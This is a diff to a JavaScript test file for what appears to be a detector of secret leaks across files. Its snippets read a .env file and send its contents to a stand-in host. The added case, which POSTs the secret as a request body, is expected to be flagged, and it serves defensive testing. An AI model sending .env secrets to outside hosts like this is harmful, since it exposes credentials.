@@ -63,7 +63,8 @@ describe("private data that goes through a function of another file", () => {
   });
 
   it("is no matter where it is the key of a service in its own header", () => {
-    const key = 'export const given = () => JSON.parse(fs.readFileSync(".env", "utf8")).key;';
+    const key = 'export const given = () => fs.readFileSync(".env", "utf8").trim();';
     expect(flows(js(key, 'await fetch("https://files.example.invalid", { headers: { authorization: given() } });'))).toBe(false);
+    expect(flows(js(key, 'await fetch("https://files.example.invalid", { method: "POST", body: given() });'))).toBe(true);
   });
 });
